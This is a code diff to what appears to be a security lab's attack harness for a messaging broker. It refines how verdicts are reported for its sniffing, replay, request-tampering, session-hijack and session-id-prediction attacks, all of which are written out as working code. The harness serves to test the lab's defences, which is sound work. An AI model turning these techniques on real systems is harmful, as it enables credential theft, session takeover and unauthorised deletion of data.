@@ -60,16 +60,42 @@ static bool has_session(const collab_sniff_msg_t *m, const void *unused)
     return m->env.kind == COLLAB_KIND_REQUEST && m->env.session_id.len > 0;
 }
 
-/*  The verdict when the wanted message never showed: nothing readable under CURVE. */
-static int nothing_seen(const wire_t *w, verdict_t *v, const char *what)
+/*  The verdict when the wanted message never showed: nothing readable under CURVE (BLOCKED
+    by transport); otherwise the attack could not run (ERROR), with a hint: the victim it
+    started failed, or nothing on the bus did the work to capture. */
+static int nothing_seen(const wire_t *w, const attack_opts_t *o, victim_t *vic, verdict_t *v,
+                        const char *what)
 {
+    char last[200] = "";
     if (w->encrypted > 0)
-        return verdict(v, ATTACK_BLOCKED,
+        return blocked(v, "transport",
                        "nothing readable: %llu messages crossed the wire, all "
                        "encrypted (CURVE)",
                        (unsigned long long)w->encrypted);
-    return verdict(v, ATTACK_ERROR, "no %s seen on the wire (%llu messages)", what,
-                   (unsigned long long)w->seen);
+    int status = victim_wait(vic, 1000); /* its own exit code, or -1 when it still ran */
+    if (status > 0) {
+        victim_last_words(vic, last, sizeof last);
+        return verdict(v, ATTACK_ERROR,
+                       "no %s seen within %d ms: the victim coordinator1 failed (exit %d: %s); "
+                       "pass --victim-passwords and --victim-credentials that match the broker",
+                       what, o->timeout_ms * 3, status, last);
+    }
+    return verdict(v, ATTACK_ERROR,
+                   "no %s seen within %d ms (%llu messages on port %d): is an agent working? "
+                   "pass --victim-passwords so the attack starts its own victim, and check "
+                   "--iface and --broker",
+                   what, o->timeout_ms * 3, (unsigned long long)w->seen, o->port);
+}
+
+/*  BLOCKED by the control a broker refusal names, or ERROR when it names none (the
+    refusal is then no defence of the lab, e.g. the victim's session had already ended). */
+static int refused(verdict_t *v, int code, const char *what, collab_span_t text)
+{
+    const char *ctl = control_of(code, NULL);
+    if (ctl)
+        return blocked(v, ctl, "%s was refused: %.*s", what, (int)text.len, text.ptr);
+    return verdict(v, ATTACK_ERROR, "%s was refused, by no control of the lab: %.*s (%s)", what,
+                   (int)text.len, text.ptr, collab_errname(code));
 }
 
 static void copy_span(char *dst, size_t cap, collab_span_t s)
@@ -113,9 +139,10 @@ int attack_sniff(const attack_opts_t *o, verdict_t *v)
     }
     if (m)
         map_field(m->env.data, "session_id", sid, sizeof sid);
-    wire_close(&w, &vic);
+    collab_sniffer_destroy(&w.s);
     if (!pw[0] || !sid[0])
-        return nothing_seen(&w, v, "login");
+        return nothing_seen(&w, o, &vic, v, "login");
+    victim_stop(&vic);
     return verdict(v, ATTACK_SUCCEEDED,
                    "read off the wire: %s's password '%s' and its session id %s", agent, pw, sid);
 }
@@ -177,10 +204,8 @@ int attack_replay(const attack_opts_t *o, verdict_t *v)
             snprintf(orig, sizeof orig, "%llu", (unsigned long long)id);
     }
     wire_close(&w, NULL); /* the victim stays logged in, working */
-    if (!len) {
-        victim_stop(&vic);
-        return nothing_seen(&w, v, "signed create_project");
-    }
+    if (!len)
+        return nothing_seen(&w, o, &vic, v, "signed create_project");
     say("captured the victim's signed create_project (%zu bytes); sending it again", len);
     collab_envelope_t rep;
     int rc = send_raw(o, NULL, frame, len, rep_buf, sizeof rep_buf, &rep);
@@ -188,8 +213,7 @@ int attack_replay(const attack_opts_t *o, verdict_t *v)
     if (rc)
         return verdict(v, ATTACK_ERROR, "the replay got no reply: %s", collab_strerror(rc));
     if (!rep.ok)
-        return verdict(v, ATTACK_BLOCKED, "the replayed request was refused: %.*s",
-                       (int)rep.error.len, rep.error.ptr);
+        return refused(v, -(int)rep.error_code, "the replayed request", rep.error);
     collab_map_t d;
     uint64_t id = 0;
     if (collab_map_parse(rep.data.ptr, rep.data.len, &d) == 0)
@@ -215,10 +239,8 @@ int attack_tamper(const attack_opts_t *o, verdict_t *v)
     if (m)
         wire_wait(&w, is_reply_to, "close_project", o->timeout_ms * 3);
     wire_close(&w, NULL); /* the victim stays logged in, working */
-    if (!len) {
-        victim_stop(&vic);
-        return nothing_seen(&w, v, "signed close_project");
-    }
+    if (!len)
+        return nothing_seen(&w, o, &vic, v, "signed close_project");
     collab_envelope_t env, rep;
     int drc = collab_envelope_decode(frame, len, &env);
     env.action = (collab_span_t){"delete_project", strlen("delete_project")};
@@ -233,8 +255,7 @@ int attack_tamper(const attack_opts_t *o, verdict_t *v)
     if (rc)
         return verdict(v, ATTACK_ERROR, "no reply: %s", collab_strerror(rc));
     if (!rep.ok)
-        return verdict(v, ATTACK_BLOCKED, "the tampered request was refused: %.*s",
-                       (int)rep.error.len, rep.error.ptr);
+        return refused(v, -(int)rep.error_code, "the tampered request", rep.error);
     return verdict(v, ATTACK_SUCCEEDED,
                    "a captured signed close_project re-sent as delete_project "
                    "verified and deleted the project");
@@ -255,10 +276,8 @@ int attack_hijack(const attack_opts_t *o, verdict_t *v)
         copy_span(agent, sizeof agent, m->env.agent_id);
     }
     collab_sniffer_destroy(&w.s);
-    if (!sid[0]) {
-        victim_stop(&vic);
-        return nothing_seen(&w, v, "request with a session id");
-    }
+    if (!sid[0])
+        return nothing_seen(&w, o, &vic, v, "request with a session id");
     say("read %s's session id off the wire; using it from %s", agent, o->source);
     collab_client_t *c = bare_client(o, agent, o->source);
     collab_client_set_session(c, sid);
@@ -277,7 +296,8 @@ int attack_hijack(const attack_opts_t *o, verdict_t *v)
                        "%s's session, used from %s, answered an authenticated "
                        "read as %s (session bound to %s)",
                        agent, o->source, agent, peer);
-    return verdict(v, ATTACK_BLOCKED, "the hijacked session was refused: %s", collab_strerror(rc));
+    const char *text = collab_strerror(rc);
+    return refused(v, rc, "the hijacked session", (collab_span_t){text, strlen(text)});
 }
 
 /*  The weak generator of LAB.md control 1, as an attacker models it. */
@@ -362,14 +382,14 @@ int attack_predict_session(const attack_opts_t *o, verdict_t *v)
     if (m && (m = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3)) != NULL)
         map_field(m->env.data, "session_id", sid, sizeof sid);
     if (!sid[0]) {
-        wire_close(&w, &vic);
-        return nothing_seen(&w, v, "login reply");
+        collab_sniffer_destroy(&w.s);
+        return nothing_seen(&w, o, &vic, v, "login reply");
     }
     uint8_t b[16];
     uint64_t state;
     if (!parse_uuid(sid, b) || !recover_state(b, &state)) {
         wire_close(&w, &vic);
-        return verdict(v, ATTACK_BLOCKED,
+        return blocked(v, "session_ids",
                        "the observed session id (%zu characters) does not come "
                        "from a predictable generator",
                        strlen(sid));
@@ -383,19 +403,28 @@ int attack_predict_session(const attack_opts_t *o, verdict_t *v)
     /* wait until the victim's next login has been answered, without reading the answer */
     bool relogged = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3) != NULL;
     collab_sniffer_destroy(&w.s);
-    int hit = -1;
+    int hit = -1, code = 0;
     for (int i = 0; i < 8 && hit < 0 && relogged; i++) {
         collab_client_t *c = bare_client(o, agent, NULL);
         collab_client_set_session(c, predicted[i]);
-        if (att_call(c, NULL, "get_session_info", NULL) == 0)
-            hit = i;
+        int rc = att_call(c, NULL, "get_session_info", NULL);
+        hit = rc == 0 ? i : -1;
+        code = control_of(code, NULL) ? code : rc; /* a refusal that names a control wins */
         collab_client_destroy(&c);
     }
     victim_stop(&vic);
+    if (!relogged)
+        return verdict(v, ATTACK_ERROR, "the victim's next login was not seen within %d ms",
+                       o->timeout_ms * 3);
     if (hit >= 0)
         return verdict(v, ATTACK_SUCCEEDED,
                        "from one observed id, predicted %s's next session id "
                        "%s (guess %d) and used it: get_session_info ok",
                        agent, predicted[hit], hit + 1);
-    return verdict(v, ATTACK_BLOCKED, "none of the 8 predicted ids is a live session");
+    if (control_of(code, NULL))
+        return blocked(v, control_of(code, NULL),
+                       "the predicted ids were refused: %s (a session id alone is not enough)",
+                       collab_strerror(code));
+    return blocked(v, "session_ids", "none of the 8 predicted ids is a live session (last: %s)",
+                   collab_strerror(code));
 }
